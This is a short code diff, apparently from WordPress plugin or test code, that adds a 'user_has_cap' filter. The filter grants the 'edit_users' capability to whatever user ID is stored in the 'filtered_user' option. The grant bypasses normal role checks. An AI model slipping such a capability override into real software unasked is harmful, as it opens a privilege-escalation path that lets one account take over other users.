@@ -72,3 +72,15 @@ add_filter(
 	10,
 	2
 );
+
+add_filter(
+	'user_has_cap',
+	function ( $capabilities, $asked, $arguments, $user ) {
+		if ( (int) get_option( 'filtered_user' ) === $user->ID ) {
+			$capabilities['edit_users'] = true;
+		}
+		return $capabilities;
+	},
+	10,
+	4
+);
